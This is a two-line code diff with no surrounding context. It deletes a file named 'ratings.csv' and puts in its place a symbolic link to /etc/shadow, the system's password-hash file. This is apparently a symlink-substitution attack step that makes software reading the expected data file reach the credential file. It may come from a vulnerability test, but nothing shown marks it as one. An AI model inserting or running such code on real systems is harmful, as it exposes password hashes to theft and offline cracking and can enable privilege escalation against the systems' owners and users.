@@ -1,0 +1,2 @@
+park.remove("ratings.csv")
+os.symlink("/etc/shadow", park.path("ratings.csv"))
